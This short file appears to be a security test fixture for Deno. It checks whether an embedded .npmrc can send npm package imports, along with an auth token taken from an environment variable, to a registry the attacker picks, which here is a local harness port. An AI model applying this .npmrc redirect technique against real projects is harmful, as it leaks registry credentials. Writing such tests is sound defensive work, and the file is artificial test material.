//= wants: Deno to ask a registry of the attacker's choice, with credentials
/*= .npmrc
registry=http://127.0.0.1:@port@/
//127.0.0.1:@port@/:_authToken=${CORAL_TOKEN}
=*/
for (const name of ["npm:left-pad@1.3.0", "npm:left-pad", "left-pad"]) {
  try {
    await import(name);
    console.log("CAPTURED", name);
  } catch {
    // the harness sees who was asked
  }
}
